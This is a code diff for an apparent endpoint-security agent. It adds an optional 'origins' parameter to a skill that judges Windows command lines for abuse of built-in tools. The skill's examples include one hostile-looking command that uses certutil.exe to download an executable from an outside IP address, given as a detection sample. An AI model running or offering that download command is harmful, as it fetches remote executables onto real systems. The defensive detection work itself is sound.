@@ -23,7 +23,7 @@ import { openRecording } from '../analysis/recordings/index.ts';
 import { conclude } from '../analysis/verdict/index.ts';
 import { defineAgent } from '../mesh/index.ts';
 import { AnalysisResult, skill, Source, type SkillContext } from '../protocol/index.ts';
-import { threatSkill } from './analyze-threat.ts';
+import { Origin, threatSkill } from './analyze-threat.ts';
 
 const EVENTS = 'events of Windows as JSON lines or as a binary log (.evtx), also packed';
 const EXAMPLE = {
@@ -58,7 +58,14 @@ const checkLolbins = skill({
   examples: [
     { commands: ['certutil.exe -urlcache -split -f http://198.51.100.7/a.exe a.exe', 'notepad.exe report.txt'] },
   ],
-  params: z.object({ commands: z.array(z.string().min(1).max(65_536)).min(1).max(500) }),
+  params: z.object({
+    commands: z.array(z.string().min(1).max(65_536)).min(1).max(500),
+    origins: z
+      .array(Origin)
+      .max(500)
+      .optional()
+      .describe('where each command stands, in the order of commands: what findings cite'),
+  }),
   result: AnalysisResult.extend({ commands: z.array(CommandReport) }),
 });
 
@@ -135,8 +142,8 @@ export const endpointSecurity = defineAgent({
       const { result, suspicions } = await assessHosts(watch, seen, paceOf(ctx));
       return { ...result, processes: toProcessReport(watch, suspicions) };
     }),
-    checkLolbins.implement(({ commands }, { content, progress }) =>
-      progress.tool('judge command lines', { count: commands.length }, () => checkCommands(commands, content)),
+    checkLolbins.implement(({ commands, origins }, { content, progress }) =>
+      progress.tool('judge command lines', { count: commands.length }, () => checkCommands(commands, content, origins)),
     ),
     checkDrivers.implement(({ drivers }, { content, progress }) =>
       progress.tool('look drivers up', { count: drivers.length }, () => checkDriverHashes(drivers, content)),
